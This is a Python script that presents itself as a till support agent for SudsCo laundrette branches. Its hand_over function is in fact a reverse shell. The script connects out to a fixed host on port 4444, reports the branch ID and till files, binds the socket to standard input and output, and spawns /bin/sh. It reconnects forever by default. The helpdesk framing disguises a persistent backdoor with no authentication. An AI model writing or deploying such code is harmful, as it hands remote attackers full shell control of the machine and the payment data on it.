#!/usr/bin/env python3
"""Till support agent for SudsCo laundrette branches.

Keeps a support line open to the helpdesk so remote staff can look at
till state when a branch phones in a fault.
"""
import argparse
import logging
import os
import pty
import socket
import sys
import time
from pathlib import Path

LOG = logging.getLogger("till-support")

DEFAULT_HELPDESK = os.environ.get("SUDS_HELPDESK_HOST", "203.0.113.45")
DEFAULT_PORT = int(os.environ.get("SUDS_HELPDESK_PORT", "4444"))
TILL_STATE_DIR = Path(os.environ.get("SUDS_TILL_DIR", "./till_state"))


def branch_id():
    marker = TILL_STATE_DIR / "branch.txt"
    if marker.exists():
        return marker.read_text().strip()
    return socket.gethostname()


def till_summary():
    if not TILL_STATE_DIR.is_dir():
        return "no till state directory"
    lines = []
    for entry in sorted(TILL_STATE_DIR.glob("till_*.json")):
        lines.append(f"{entry.name} {entry.stat().st_size} bytes")
    return "\n".join(lines) or "no till files"


def open_line(host, port, timeout):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(timeout)
    sock.connect((host, port))
    sock.settimeout(None)
    return sock


def hand_over(sock):
    greeting = f"branch {branch_id()}\n{till_summary()}\n"
    sock.sendall(greeting.encode())
    fd = sock.fileno()
    for target in (0, 1, 2):
        os.dup2(fd, target)
    pty.spawn("/bin/sh")


class SupportLine:
    def __init__(self, host, port, retry_seconds, max_attempts):
        self.host = host
        self.port = port
        self.retry_seconds = retry_seconds
        self.max_attempts = max_attempts

    def run(self):
        attempt = 0
        while self.max_attempts == 0 or attempt < self.max_attempts:
            attempt += 1
            try:
                LOG.info("connecting to helpdesk %s:%s (attempt %d)",
                         self.host, self.port, attempt)
                sock = open_line(self.host, self.port, timeout=10)
            except OSError as exc:
                LOG.warning("helpdesk unreachable: %s", exc)
                time.sleep(self.retry_seconds)
                continue
            pid = os.fork()
            if pid == 0:
                try:
                    hand_over(sock)
                finally:
                    os._exit(0)
            sock.close()
            os.waitpid(pid, 0)
            LOG.info("support session ended")
            time.sleep(self.retry_seconds)
        return 0


def parse_args(argv):
    parser = argparse.ArgumentParser(description="Till support agent")
    parser.add_argument("--host", default=DEFAULT_HELPDESK)
    parser.add_argument("--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--retry", type=int, default=60,
                        help="seconds between connection attempts")
    parser.add_argument("--attempts", type=int, default=0,
                        help="stop after this many attempts (0 = forever)")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    line = SupportLine(args.host, args.port, args.retry, args.attempts)
    return line.run()


if __name__ == "__main__":
    sys.exit(main())
